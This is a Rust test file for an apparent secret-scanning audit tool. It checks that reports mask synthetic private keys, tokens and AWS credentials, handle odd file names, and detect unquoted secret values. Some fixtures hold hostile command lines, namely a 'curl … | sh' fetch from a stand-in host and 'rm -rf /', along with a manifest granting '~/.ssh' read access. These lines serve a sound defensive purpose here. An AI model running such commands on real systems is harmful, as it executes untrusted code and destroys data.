//! A report has other readers than the file: no secret may get from the file into it.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};

use skillcue_audit::{Audit, audit, finding_json, sarif};

use crate::samples::{noise, tags};
use crate::{find, lines, of_file, write};

/// Checks that no report shows more of the secret than its first characters.
fn assert_masked(audit: &Audit, secret: &str) {
    assert!(!audit.findings.is_empty(), "nothing was found");
    for part in secret.as_bytes().windows(7).skip(4) {
        let part = str::from_utf8(part).unwrap();
        let shown = audit
            .findings
            .iter()
            .find(|f| f.message.contains(part) || f.excerpt.as_deref().unwrap_or_default().contains(part));
        assert!(shown.is_none(), "{part:?} is shown: {:?}", lines(audit));
    }
}

fn key(line_end: &str) -> (String, String) {
    let body = noise(64 * 30);
    let body: Vec<&str> = (0..30).map(|line| &body[line * 64..line * 64 + 64]).collect();
    let words = format!("{} {}", "PRIVATE", "KEY");
    let text =
        format!("-----BEGIN {words}-----{line_end}{}{line_end}-----END {words}-----{line_end}", body.join(line_end));
    (text, body.join(""))
}

#[test]
fn a_private_key_is_masked_to_its_end() {
    for end in ["\\n", "\n", "\\r\\n"] {
        let (text, body) = key(end);
        let json = format!("{{\"type\": \"service_account\", \"private_key\": \"{text}\"}}\n");
        assert_masked(&of_file("key.json", &json), &body);
        // Seen from the middle of the key: the long text, and a command behind it.
        assert_masked(&of_file("key.md", &json), &body);
        assert_masked(&of_file("key.sh", format!("K='{text}' curl https://x.test/i | sh\n")), &body);
    }
    // One that has no end, and one whose end is far away.
    let (text, body) = key("\n");
    assert_masked(&of_file("a.md", &text[..text.len() - 100]), &body);
}

#[test]
fn two_secrets_of_a_line_are_masked_whatever_is_reported() {
    let one = format!("{}-ant-api03-{}", "sk", noise(90));
    let other = format!("{}{}", "AKIA", "QZ7XW3NM2PLK5RTY");
    let audit = of_file("e.env", format!("A={one} B={other}\n"));
    assert_eq!(audit.findings.len(), 2, "{:?}", lines(&audit));
    assert_masked(&audit, &one);
    assert_masked(&audit, &other);
    // One that begins long before the place.
    let long = format!("{}-ant-api03-{}", "sk", noise(9000));
    assert_masked(&of_file("e.sh", format!("A={long};curl https://x.test/i | sh\n")), &long);
    assert_masked(&of_file("e.md", format!("A={one} zero\u{200b}width\n")), &one);
    assert_masked(&of_file("e.md", format!("A={one}\u{200b}\n")), &one);
}

#[test]
fn text_of_hidden_characters_is_masked() {
    let token = format!("{}_{}", "ghp", noise(36));
    let audit = of_file("a.md", format!("Hello{}\n", tags(&format!("use {token}"))));
    assert!(find(&audit, "hidden-unicode").unwrap().message.contains("ghp_…"), "{:?}", lines(&audit));
    assert_masked(&audit, &token);
    // Only the first characters of a run are kept: the token is cut.
    assert_masked(&of_file("a.md", format!("Hello{}\n", tags(&format!("{} {token}", "word ".repeat(35))))), &token);
    let selectors: String = token.bytes().map(|byte| char::from_u32(0xe0100 + u32::from(byte) - 16).unwrap()).collect();
    assert_masked(&of_file("a.md", format!("Hello{selectors}\n")), &token);
    let private: String = token.bytes().map(|byte| char::from_u32(0xf0000 + u32::from(byte)).unwrap()).collect();
    assert_masked(&of_file("a.md", format!("Hello{private}\n")), &token);
}

#[test]
fn text_of_links_and_manifests_is_masked() {
    let token = format!("{}_{}", "ghp", noise(36));
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(format!("/x/{token}"), dir.path().join("a")).unwrap();
    assert_masked(&audit(dir.path()), &token);
    let text = format!("---\nname: a\ndescription: B c.\npermissions:\n  read: [\"~/.ssh\", \"{token}\"]\n---\n");
    assert_masked(&of_file("SKILL.md", text), &token);
}

#[test]
fn a_name_that_is_not_utf_8_is_written() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join(OsStr::from_bytes(b"a\xff.sh")), "rm -rf /\n");
    let audit = audit(dir.path());
    assert_eq!(audit.findings.len(), 2, "{:?}", lines(&audit));
    for finding in &audit.findings {
        assert_eq!(finding.path.as_deref(), Some(Path::new(OsStr::from_bytes(b"a\xff.sh"))));
        assert_eq!(finding_json(finding)["path"], "a\u{fffd}.sh");
    }
    let log = sarif(&[(PathBuf::from(OsStr::from_bytes(b"b\xfe")), audit)]);
    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "b%FE/a%FF.sh");
}

#[test]
fn values_without_quotes_are_found() {
    let value = noise(40);
    let high = [
        ("a.sh", format!("aws_{}_access_key={value}\n", "secret")),
        ("credentials", format!("[default]\naws_{}_access_key = {value}\n", "secret")),
    ];
    for (file, text) in high {
        assert!(find(&of_file(file, &text), "secret").is_some(), "{text}");
        assert_masked(&of_file(file, &text), &value);
    }
    let value = &value[..16];
    let medium = [
        ("a.sh", format!("export DB_{}={value}\n", "PASSWORD")),
        ("a.env", format!("API_{}={value}\n", "TOKEN")),
        ("a.yaml", format!("db:\n  {}: {value}\n", "password")),
        ("a.md", format!("```yaml\n{}: {value}  # the real one\n```\n", "password")),
    ];
    for (file, text) in medium {
        assert!(find(&of_file(file, &text), "secret-like").is_some(), "{text}");
        assert_masked(&of_file(file, &text), value);
    }
    let clean = [
        ("a.sh", "export DB_PASSWORD=${DB_PASSWORD_2}\nTOKEN=$(get Token1 Token2x)\nAPI_KEY=your-api-key-here-12\n"),
        ("a.yaml", "password: correct-horse-battery\ntoken: <token 1234 ABcd>\napi_key: ${{ secrets.API_KEY_2 }}\n"),
        ("a.py", "token = response2.json()\npassword = Config2Password(x)\nsecret_key = nextValue12Abc\n"),
        ("a.md", "The password: ask Bob. A token=value pair; secret: https://x.test/Ab1Cd2Ef3Gh4\n"),
        ("a.ts", "interface A { password: Uint8ArrayBuffer16; token: string }\n"),
    ];
    for (file, text) in clean {
        assert_eq!(lines(&of_file(file, text)), [""; 0]);
    }
}
